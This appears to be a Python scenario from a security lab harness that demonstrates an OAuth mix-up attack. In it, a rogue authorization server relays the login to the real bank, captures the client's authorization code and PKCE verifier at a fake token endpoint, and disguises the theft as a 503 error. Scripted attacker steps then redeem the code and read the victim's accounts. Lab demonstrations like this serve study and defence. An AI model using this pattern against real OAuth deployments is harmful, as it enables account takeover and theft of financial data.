"""A server that sends everybody on to another one, and waits for what the client brings."""

from urllib.parse import urlencode

from flask import Flask, Response, jsonify, redirect, request
from werkzeug.wrappers import Response as AnyResponse

from labs.chromium import BrowserStage
from labs.stage import Stage, Stuck
from labs.steps import step

wonder = Flask(__name__)
HOSTS = {"wonder": wonder}


@wonder.get("/.well-known/oauth-authorization-server")
def metadata() -> Response:
    """Describe a server like any other (RFC 8414 §2)."""
    issuer = request.environ["labs.world"].here.origin("wonder")
    return jsonify(
        issuer=issuer,
        authorization_endpoint=f"{issuer}/authorize",
        token_endpoint=f"{issuer}/token",
        code_challenge_methods_supported=["S256"],
    )


@wonder.get("/authorize")
def authorize() -> AnyResponse:
    """Send the request on to Bank ID, as it came."""
    # The challenge goes along untouched: the client itself will bring the verifier for it, to the wrong `/token`.
    return redirect(f"{request.environ['labs.world'].here.auth}/authorize?{urlencode(request.args)}", 303)


@wonder.post("/token")
def token() -> tuple[Response, int]:
    """Keep code and verifier, and say that it did not work."""
    request.environ["labs.world"].collection.keep(request.form.to_dict(), "POST /token, in the body")
    # A refusal that invites to try again draws no attention; code and verifier are here already.
    return jsonify(error="temporarily_unavailable"), 503


@wonder.after_request
def readable(response: Response) -> Response:
    """Let Balance's page read the answers, as an honest server does."""
    # Else Balance would read no metadata here, and not come back with the code.
    response.headers["Access-Control-Allow-Origin"] = "*"
    return response


@step("Alice", by_hand="{balance}/")
def alice_chooses_wonder_id(stage: BrowserStage) -> None:
    """Connect Balance with Wonder ID: at Bank ID sign in as alice, and allow."""
    balance = stage.alice.go(f"{stage.here.balance}/")
    if balance.tab.get_by_role("button", name="Connect with Wonder ID").count():
        balance.click("Connect with Wonder ID", leads_to=stage.here.auth)
    else:  # this Balance does not know it: a link of the attacker's leads there all the same
        request = stage.link("balance", stage.callback("balance"))
        balance.go(request.replace(stage.here.auth, stage.here.wonder, 1))
    balance.agree().rest()


@step("attacker")
def redeems_what_came(stage: Stage) -> None:
    """Redeem the code that Balance brought to Wonder ID, with the verifier that Balance brought along."""
    code, verifier = stage.collection.newest("code"), stage.collection.newest("code_verifier")
    if not verifier:
        raise Stuck("Balance brought nothing to Wonder ID")
    form = {"redirect_uri": stage.callback("balance"), "code_verifier": verifier}
    stage.kept["token"] = stage.attacker.redeem(code, client_id="balance", **form)


@step("attacker")
def reads_the_accounts(stage: Stage) -> None:
    """Ask the bank for Alice's accounts with what that bought."""
    stage.attacker.bank("GET", "/accounts", stage.kept.get("token", ""))
